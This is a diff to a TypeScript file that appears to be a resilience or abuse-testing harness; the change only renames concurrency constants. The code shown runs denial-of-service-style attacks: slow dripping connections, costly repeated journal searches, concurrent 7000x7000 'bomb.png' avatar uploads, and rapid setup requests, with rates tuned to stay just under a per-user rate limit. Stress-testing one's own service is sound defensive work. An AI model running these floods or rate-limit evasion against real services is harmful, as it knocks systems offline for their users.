@@ -17,12 +17,12 @@ type Target = Pick<AttackOrder, 'port' | 'token'>;
 
 const DRIPPING = 500;
 const RENEWED_EACH_SECOND = 17;
-const SEARCHES_AT_ONCE = 12;
+const SEARCH_CONCURRENCY = 12;
 /** With 12 at once, just below the 300 requests a minute of a user. */
 const SEARCH_ROUND_MS = 2_500;
-const BOMBS_AT_ONCE = 24;
+const BOMB_CONCURRENCY = 24;
 const BOMB_ROUND_MS = 5_000;
-const SET_UPS_AT_ONCE = 4;
+const SET_UP_CONCURRENCY = 4;
 const SET_UP_ROUND_MS = 1_000;
 
 const report: AttackReport = {};
@@ -58,12 +58,12 @@ async function drip({ port }: Target): Promise<void> {
 
 async function search(target: Target): Promise<void> {
   const q = encodeURIComponent('"river stone" "stone river"');
-  await inRounds(SEARCHES_AT_ONCE, SEARCH_ROUND_MS, () => send(target, 'GET', `/api/journal?q=${q}`));
+  await inRounds(SEARCH_CONCURRENCY, SEARCH_ROUND_MS, () => send(target, 'GET', `/api/journal?q=${q}`));
 }
 
 async function bombs(target: Target): Promise<void> {
   const picture = new Blob([hugePng({ width: 7_000, height: 7_000 }) as Uint8Array<ArrayBuffer>]);
-  await inRounds(BOMBS_AT_ONCE, BOMB_ROUND_MS, () => {
+  await inRounds(BOMB_CONCURRENCY, BOMB_ROUND_MS, () => {
     const form = new FormData();
     form.set('avatar', picture, 'bomb.png');
     return send(target, 'POST', '/api/user/avatar', form);
@@ -72,7 +72,7 @@ async function bombs(target: Target): Promise<void> {
 
 async function setUps(target: Target): Promise<void> {
   let count = 0;
-  await inRounds(SET_UPS_AT_ONCE, SET_UP_ROUND_MS, () => {
+  await inRounds(SET_UP_CONCURRENCY, SET_UP_ROUND_MS, () => {
     count += 1;
     const hour = count % 20;
     const time = (hours: number) => `${String(hours).padStart(2, '0')}:00`;
